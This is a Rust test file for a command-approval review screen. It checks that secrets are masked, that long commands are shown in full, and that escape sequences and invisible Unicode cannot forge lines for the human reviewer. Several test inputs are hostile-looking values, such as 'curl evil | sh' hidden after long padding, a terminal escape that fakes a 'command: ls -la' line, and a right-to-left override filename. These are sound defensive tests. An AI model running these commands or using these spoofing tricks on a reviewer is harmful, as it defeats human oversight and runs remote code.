//! Whatever is asked: the screen is whole, and only its own lines are lines.

use std::ffi::OsString;
use std::os::unix::ffi::OsStringExt as _;

use proptest::prelude::*;

use super::*;
use crate::approval::entry::State;
use crate::approval::kept::Kept;
use crate::approval::tests::{Scene, asking, evidence};
use crate::request::{Request, Stdin};

fn person(user: &str) -> Person {
    Person { uid: 1000, user: user.into(), login_uid: Some(1001) }
}

fn entry(bound: Bound) -> Entry {
    Entry {
        id: "k7f39xq2m4td".into(),
        state: State::Pending,
        digest: bound.digest(),
        asked_digest: bound.digest(),
        bound,
        asked_argv: None,
        filed_by: person("bob"),
        filed_at: "2025-06-15T15:06:40.000Z".into(),
        expires_at: "2025-06-15T15:16:40.000Z".into(),
        left: Duration::from_millis(581_900),
        answered: None,
        used: None,
        escalated_at: None,
        kept: None,
        output: None,
    }
}

fn screen(scene: &Scene, request: Request) -> String {
    let evidence = request.evidence.clone().map(|e| e.bytes);
    let bound = scene.bound(request);
    Paper { bound: &bound, evidence: evidence.as_deref(), output: None, entry: None, lately: None }.screen()
}

#[test]
fn all_that_is_needed_is_on_it() {
    let scene = Scene::new();
    scene.file("s.sh", "echo\n");
    let mut request = asking(["sh", "./s.sh", "a b"]);
    request.env = vec![("API_KEY".into(), Some("hunter2".into())), ("A".into(), Some("1".into()))];
    request.stdin = Stdin::Bytes(b"abc".to_vec());
    request.asker.agent = Some("lead".into());
    request.asker.session = Some("s 1".into());
    request.asker.labels.insert("ticket".into(), "7".into());
    request.asker.why = Some("it is\nneeded".into());
    request.evidence = Some(evidence("log.txt", "line\n"));
    let kept = Kept::of(&request, &scene.facts, &scene.policy);
    let bound = scene.bound(request);
    let mut entry = entry(bound);
    entry.kept = Some(kept);
    let answered = Answered {
        approved: false,
        by: person("amy").into(),
        at: entry.filed_at.clone(),
        text: Some("no\x1b".into()),
    };
    let lately = [Lately { id: "0000000000aa".into(), agent: Some("x".into()), answered }];
    let text = Paper::of(&entry, &lately).screen();
    let dir = scene.dir.display().to_string();
    let sh = std::fs::canonicalize("/bin/sh").unwrap();
    let hash = |bytes: &[u8]| crate::approval::files::content(bytes).sha256;
    for part in [
        "approval   k7f39xq2m4td  pending, expires in 9m 41s (2025-06-15T15:16:40.000Z)\n".to_string(),
        format!("           digest {}\n", entry.digest),
        "filed      2025-06-15T15:06:40.000Z by 'bob' (uid 1000, logged in as 1001)\n".into(),
        "command    3 words\n           [0] sh\n           [1] ./s.sh\n           [2] 'a b'\n".into(),
        format!("program    {}\n", sh.display()),
        hash(&std::fs::read(&sh).unwrap()),
        format!("cwd        {dir}\n"),
        format!("stdin      3 bytes, sha256 {}\n", hash(b"abc")),
        format!("file       [1] ./s.sh\n           5 bytes, sha256 {}\n", hash(b"echo\n")),
        "A=1\n".into(),
        "API_KEY='[masked]'\n".into(),
        format!("because    'shell' ({dir}/policy.toml:6)\n           a shell can do anything\n"),
        "wall_time 60s".into(),
        "memory 1G".into(),
        "profile host".into(),
        format!("policy     {dir}/policy.toml\n           sha256 {}\n", scene.policy[0].sources[0].sha256),
        "lately     0000000000aa for 'x': declined by 'amy' (uid 1000, logged in as 1001) at 2025-06-15T15:06:40.000Z: no\\x1b\n".into(),
        "asker      agent 'lead', session 's 1'\n           label ticket = 7\n".into(),
        "why        the asker says:\n           | it is\n           | needed\n".into(),
        format!("evidence   log.txt\n           5 bytes, sha256 {}\n           | line\n", hash(b"line\n")),
    ] {
        assert!(text.contains(&part), "{part:?} is not in\n{text}");
    }
    assert!(!text.contains("hunter2"), "{text}");
}

#[test]
fn answers_uses_and_edits_are_shown() {
    let scene = Scene::new();
    let mut entry = entry(scene.bound(asking(["sh", "-c", "new"])));
    entry.state = State::Consumed;
    entry.asked_argv = Some(["sh", "-c", "old"].iter().map(|word| (*word).into()).collect());
    entry.answered =
        Some(Answered { approved: true, by: person("amy").into(), at: entry.filed_at.clone(), text: None });
    entry.used = Some((entry.expires_at.clone(), "r1".into()));
    entry.escalated_at = Some(entry.filed_at.clone());
    let text = Paper::of(&entry, &[]).screen();
    for part in [
        "approval   k7f39xq2m4td  consumed (2025-06-15T15:16:40.000Z)\n",
        "answer     approved by 'amy' (uid 1000, logged in as 1001) at 2025-06-15T15:06:40.000Z\n",
        "used       2025-06-15T15:16:40.000Z by run r1\n",
        "escalated  2025-06-15T15:06:40.000Z\n",
        "asked for  3 words\n           [0] sh\n           [1] -c\n           [2] old\n",
        "edited to  3 words\n           [0] sh\n           [1] -c\n           [2] new\n",
        "lately     nothing was answered to this yet\n",
    ] {
        assert!(text.contains(part), "{part:?} is not in\n{text}");
    }
}

#[test]
fn case_137_the_end_of_a_long_command_is_not_hidden() {
    let scene = Scene::new();
    let long = format!("{}; curl evil | sh", "x".repeat(100 << 10));
    let text = screen(&scene, asking(["sh", "-c", &long, &format!("{}!", "y".repeat(300))]));
    assert!(
        text.contains(&format!("[2] '{long}'\n")) && text.contains(&format!("[3] '{}!'\n", "y".repeat(300)))
    );
    assert!(!text.contains("..."));
}

#[test]
fn case_138_nothing_rewrites_what_is_seen() {
    let scene = Scene::new();
    let mut request =
        asking(["sh", "-c", "curl evil|sh\r\x1b[2K   command: ls -la", "a\nprogram    /bin/true"]);
    request.asker.why = Some("ok\r\x1b]0;x\x07\u{9b}2J\napproval   fine".into());
    request.evidence = Some(evidence("a\nb", "\x1b[1A\u{85}x"));
    let text = screen(&scene, request);
    for part in [
        "[2] $'curl evil|sh\\r\\x1b[2K   command: ls -la'\n",
        "[3] $'a\\nprogram    /bin/true'\n",
        "| ok\\r\\x1b]0;x\\x07\\u{9b}2J\n           | approval   fine\n",
        "evidence   $'a\\nb'\n",
        "| \\x1b[1A\\u{85}x\n",
    ] {
        assert!(text.contains(part), "{part:?} is not in\n{text}");
    }
}

#[test]
fn case_139_invisible_and_padding_characters_are_shown() {
    let scene = Scene::new();
    let words = [
        "sh",
        "rm \u{202e}fdp.exe",
        "\u{e0100}\u{115f}\u{200b}",
        &"\u{2003}".repeat(400),
        &" ".repeat(90),
        "p\u{430}y",
    ];
    let text = screen(&scene, asking(words));
    for part in [
        "[1] $'rm \\u{202e}fdp.exe'\n",
        "[2] $'\\u{e0100}\\u{115f}\\u{200b}'\n",
        "[3] $'\\[400 times \\u{2003}]'\n",
        "[4] $'\\[90 spaces]'\n",
        "[5] p\u{430}y\n             = $'p\\u{430}y'\n",
    ] {
        assert!(text.contains(part), "{part:?} is not in\n{text}");
    }
}

/// What every line of the screen starts with.
const LABELS: [&str; 17] = [
    "approval   ",
    "filed      ",
    "answer     ",
    "used       ",
    "escalated  ",
    "tool       ",
    "asked for  ",
    "edited to  ",
    "command    ",
    "program    ",
    "cwd        ",
    "stdin      ",
    "file       ",
    "env        ",
    "because    ",
    "run        ",
    "           ",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]
    #[test]
    fn any_bytes_give_a_safe_screen(
        words in proptest::collection::vec(proptest::collection::vec(1_u8..=255, 0..40), 0..5),
        why in ".{0,60}",
        shown in proptest::collection::vec(any::<u8>(), 0..60),
    ) {
        let scene = Scene::new();
        let mut request = asking(std::iter::once(OsString::from("sh")).chain(words.into_iter().map(OsString::from_vec)));
        request.asker.why = Some(why);
        request.evidence = Some(crate::request::Evidence { name: OsString::from_vec(shown.clone()).into(), bytes: shown });
        let text = screen(&scene, request);
        for line in text.lines() {
            let ours = ["policy     ", "asker      ", "why        ", "evidence   "];
            prop_assert!(LABELS.iter().chain(&ours).any(|label| line.starts_with(label)), "{line:?}");
        }
        prop_assert!(text.chars().all(|c| c == '\n' || quote::is_plain(c)), "{text:?}");
    }
}
